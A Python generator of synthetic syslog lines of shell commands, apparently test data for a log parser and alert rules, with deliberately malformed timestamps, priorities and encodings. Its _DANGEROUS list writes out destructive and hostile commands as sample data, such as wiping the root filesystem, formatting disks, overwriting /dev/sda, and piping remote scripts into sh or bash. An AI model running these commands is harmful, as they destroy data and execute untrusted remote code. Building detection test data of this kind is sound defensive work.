"""Syslog lines of shell commands, as a collector of several relays gets them.

They begin five minutes before a new year: RFC 3164's times have no year. Rows
come out of order by less than five seconds, and some right at a minute's turn.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import datetime, timedelta
from typing import NamedTuple

from streamgauge.draws import below, chance, draws, pick

_STREAM = 8
_STEP_MS = 900
_MOST_MS = 4999
_DELAY_MS = 4000
_LAG_MS = 3000
_MINUTE_MS = 60_000
# After so many rows, half a year of them, time begins anew.
_ROUND = 2**24
_EPOCH = datetime(2020, 12, 31, 23, 55)  # noqa: DTZ001 - SQL's TIMESTAMP has no zone
_DAY = timedelta(days=1)
_MONTHS = (
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
)  # fmt: skip

_HOSTS = ("172.25.0.2", "172.25.0.3", "172.25.0.7", "bastion-1", "db01.example.com")
_TOPICS = ("syslog-user", "syslog-user", "syslog-root", "audit[417]")
# The first has almost half of the lines, and with them enough failures for alerts.
_CLIENTS = (
    "10.200.80.1", "10.200.80.1", "10.200.80.1", "10.200.80.1", "10.200.80.2", "10.200.80.2",
    "10.200.80.17", "192.168.3.40", "2001:db8::7",
)  # fmt: skip
_PRIS = (14, 13, 86, 0, 191)
_USERS = ("root", "ada", "deploy", "josé", "李小龍")
_STATUS = (1, 1, 2, 126, 127, *[0] * 9)
_COMMANDS = (
    "vim /etc/my.cnf", "ls -la /tmp", "tail -f /var/log/messages", "rm -rf /tmp/build",
    'echo "it\'s, quoted"', "cat /home/josé/naïve.txt", "grep -c '^$' a.csv | sort",
    "echo 🦑 李小龍", "printf 'a\\tb\\n'", "chmod 644 /etc/hosts",
    "curl -s https://example.com/ | shasum", "sudo su -",
    "dd if=/dev/sda of=disk.img", "cd  /  &&  ls", "mkdir mkfs", "docker ps: all", "x",
)  # fmt: skip
_DANGEROUS = (
    "rm -rf /", "rm -fr /*", "sudo rm -rf / --no-preserve-root",
    "mkfs.ext4 /dev/sdb1", "sudo mkfs /dev/sdc", "chmod 777 /", "sudo chmod -R 777 /",
    "curl -s https://example.com/x.sh | sh", "wget -qO- example.com/x | bash -s",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    # Fits two rules: the first of the table counts.
    "curl example.com/x.sh | sh ; rm -rf /",
)  # fmt: skip
_NO_PRI = ("", "14>", "<>", "<192>", "<9999>", "< 14>", "<1a>")
_BAD_TIMES = (
    "Okt 28 14:28:06", "Dec 32 23:58:01", "Feb 30 00:00:00", "Dec 31 24:00:00",
    "Dec 31 23:59:60", "Dec 31 23.58.01", "2020-12-31 23:5", "dec 31 23:59:01", "Dec 00 23:59:01",
)  # fmt: skip


class _Draw(NamedTuple):
    """What a row is drawn from: eight numbers that know nothing of each other."""

    kind: int
    how: int
    time: int
    client: int
    user: int
    status: int
    command: int
    host: int


def rows(seed: int, start: int, stop: int) -> list[tuple[datetime, bytes]]:
    """Rows (received, line), for indices start..stop-1.

    `received` has milliseconds and is less than 5 s before the latest so far.
    In each 100 lines there are about 15 that no parser should take.
    """
    numbers = draws(seed, _STREAM, start, stop)
    return [_row(index, _eight(drawn)) for index, drawn in zip(range(start, stop), numbers)]


def _eight(drawn: list[int]) -> _Draw:
    """Each word, and its lower half as a word of its own."""
    return _Draw(*drawn, *(word << 32 & 2**64 - 1 for word in drawn))


def _row(index: int, draw: _Draw) -> tuple[datetime, bytes]:
    latest = index % _ROUND * _STEP_MS
    turn = latest - latest % _MINUTE_MS - below(draw.how, 2)
    if chance(draw.time, 40) and 0 <= turn and latest - turn <= _MOST_MS:
        # A failure of the busiest client, in a minute's first or last millisecond.
        return _as_it_is(_moment(turn), draw._replace(client=0, status=0))
    return _spoil(draw)(_moment(latest - below(draw.time, _DELAY_MS)), draw)


def _moment(milliseconds: int) -> datetime:
    return _EPOCH + timedelta(milliseconds=milliseconds)


def _spoil(draw: _Draw) -> Callable[[datetime, _Draw], tuple[datetime, bytes]]:
    """What happens to a line on its way."""
    kind = below(draw.kind, 100)
    return next((spoil for share, spoil in _SPOILING if kind < share), _as_it_is)


def _as_it_is(received: datetime, draw: _Draw) -> tuple[datetime, bytes]:
    return received, _line(_logged(received, draw), draw).encode()


def _latin_1(received: datetime, draw: _Draw) -> tuple[datetime, bytes]:
    text = _line(_logged(received, draw), draw, "cat /home/josé/naïve.txt")
    return received, text.encode("latin-1", "replace")


def _without_pri(received: datetime, draw: _Draw) -> tuple[datetime, bytes]:
    _, _, rest = _line(_logged(received, draw), draw).partition(">")
    return received, f"{pick(draw.how, _NO_PRI)}{rest}".encode()


def _cut(received: datetime, draw: _Draw) -> tuple[datetime, bytes]:
    """The end is gone, from somewhere between the PRI and the command."""
    text = _line(_logged(received, draw), draw, "")
    pri = text.index(">") + 1
    return received, text[: pri + below(draw.how, len(text) - pri + 1)].encode()


def _of_no_time(received: datetime, draw: _Draw) -> tuple[datetime, bytes]:
    return received, _line(pick(draw.how, _BAD_TIMES), draw).encode()


def _held_up(received: datetime, draw: _Draw) -> tuple[datetime, bytes]:
    """A relay was cut off for two days and more."""
    return received, _line(_stamp(received - _DAY * (2 + below(draw.how, 28))), draw).encode()


def _a_day_old(received: datetime, draw: _Draw) -> tuple[datetime, bytes]:
    """Just not too old: a day to the millisecond."""
    received = received.replace(microsecond=0)
    return received, _line(_stamp(received - _DAY), draw).encode()


# Of 100 lines: the first three, those up to the sixth, ...
_SPOILING = (
    (3, _latin_1), (6, _without_pri), (10, _cut), (13, _of_no_time), (15, _held_up),
    (19, _a_day_old),
)  # fmt: skip


def _logged(received: datetime, draw: _Draw) -> str:
    """When the host says it was: a little before, by a clock of whole seconds."""
    return _stamp(received - timedelta(milliseconds=below(draw.how, _LAG_MS)))


def _stamp(moment: datetime) -> str:
    return f"{_MONTHS[moment.month - 1]} {moment.day:2} {moment:%H:%M:%S}"


def _line(stamp: str, draw: _Draw, command: str | None = None) -> str:
    if command is None:
        command = pick(draw.command, (*_COMMANDS * 4, *_DANGEROUS))
    users = f"{pick(draw.user, _USERS)} {pick(draw.host, _USERS)}"
    words = f"{pick(draw.client, _CLIENTS)} {users} {pick(draw.status, _STATUS)} {command}"
    sent = f"{stamp} {pick(draw.host, _HOSTS)} {pick(draw.user, _TOPICS)}: {words}"
    return f"<{pick(draw.host, _PRIS)}>{sent}"
